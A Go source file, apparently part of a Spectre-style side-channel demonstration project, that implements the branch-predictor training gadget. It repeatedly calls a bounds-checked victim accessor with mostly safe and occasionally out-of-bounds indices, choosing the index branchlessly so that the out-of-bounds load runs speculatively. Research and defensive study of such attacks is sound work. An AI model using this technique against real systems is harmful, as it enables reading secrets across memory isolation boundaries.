// Package gadget trains the branch predictor behind a bounds check so that an
// out-of-bounds access executes speculatively.
package gadget

import (
	"math/bits"

	"go.trai.ch/peek/internal/core/ports"
)

// Gadget repeatedly calls a bounds-checked accessor, mostly in bounds and
// occasionally out of bounds. The in-bounds trials keep the predictor
// confident that the check passes; on the out-of-bounds trial the guarded
// load runs speculatively before the check retires, and the probe line it
// touches stays cached after the squash.
//
// Whether speculation happens at all depends on the machine: speculation
// barriers or microcode mitigations remove the signal entirely.
type Gadget struct {
	victim       ports.Victim
	trials       int
	unsafeEveryN int
}

// New creates a Gadget running trials accesses per pass, one in every
// unsafeEveryN of them out of bounds.
func New(victim ports.Victim, trials, unsafeEveryN int) *Gadget {
	return &Gadget{
		victim:       victim,
		trials:       trials,
		unsafeEveryN: unsafeEveryN,
	}
}

// Train runs one training pass.
func (g *Gadget) Train(safeIndex, unsafeIndex int) {
	for trial := range g.trials {
		g.victim.Access(SelectIndex(trial, g.unsafeEveryN, safeIndex, unsafeIndex))
	}
}

// SelectIndex returns unsafeIndex for every unsafeEveryN-th trial and
// safeIndex otherwise. It compiles to arithmetic only, so choosing the
// index does not itself train a branch.
func SelectIndex(trial, unsafeEveryN, safeIndex, unsafeIndex int) int {
	// All ones when (trial+1) is a multiple of unsafeEveryN, zero otherwise.
	mask := ((trial+1)%unsafeEveryN - 1) >> (bits.UintSize - 1)
	return safeIndex ^ (mask & (unsafeIndex ^ safeIndex))
}
